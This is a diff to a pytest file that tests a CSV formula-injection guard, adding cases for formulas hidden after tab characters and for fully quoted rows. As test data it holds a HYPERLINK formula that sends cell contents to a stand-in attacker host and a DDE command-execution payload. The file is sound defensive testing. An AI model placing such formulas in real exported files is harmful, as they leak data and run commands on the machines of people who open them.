@@ -25,7 +25,7 @@ LINK = '=HYPERLINK("http://attacker.example/?"&A1,"Click for details")'
 CAPTION = '=HYPERLINK("http://attacker.example/")'  # no comma: the caption template splits on commas
 
 
-@pytest.mark.parametrize("text", [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1",
+@pytest.mark.parametrize("text", [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t1+1",
                                   "-", "=", "-inf"])
 def test_a_formula_like_cell_gets_a_leading_apostrophe(text):
     assert safe_cell(text) == "'" + text
@@ -36,6 +36,26 @@ def test_a_formula_like_cell_gets_a_leading_apostrophe(text):
                                         ("a\x0b=1\x1cb\u2028c\x85", "a\ufffd=1\ufffdb\ufffdc\ufffd")])
 def test_every_line_of_a_cell_is_guarded_and_other_control_characters_replaced(text, safe):
     assert safe_cell(text) == safe
+
+
+@pytest.mark.parametrize("text, safe", [("a\t=1+1", "a\t'=1+1"), ("\t=1+1", "'\t'=1+1"), ("x\t@SUM(A1)\t-2", "x\t'@SUM(A1)\t-2"),
+                                        ("a\tb", "a\tb")])
+def test_what_follows_a_tab_in_a_cell_is_guarded(text, safe):
+    assert safe_cell(text) == safe
+
+
+def test_a_row_holding_a_tab_is_written_fully_quoted():
+    """Read back as tab-separated (or pasted into a spreadsheet), the quoted cell stays one cell, and what
+    follows its tab starts with the apostrophe."""
+    from guards.csv_cells import SafeDictWriter, SafeWriter
+
+    out = io.StringIO()
+    SafeWriter(out).writerow(["page\t=HYPERLINK(\"http://attacker.example/\")", 3])
+    assert out.getvalue() == '"page\t\'=HYPERLINK(""http://attacker.example/"")","3"\r\n'
+    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["page\t'=HYPERLINK(\"http://attacker.example/\")", "3"]
+    out = io.StringIO()
+    SafeDictWriter(out, ["a", "b"]).writerow({"a": "x\t+1+cmd", "b": "plain"})
+    assert out.getvalue() == '"x\t\'+1+cmd","plain"\r\n'
 
 
 @pytest.mark.parametrize("value", ["-3.5", "+2", "1e-3", "-1E+6", "-.5", "42", -3.5, 7, None, "",
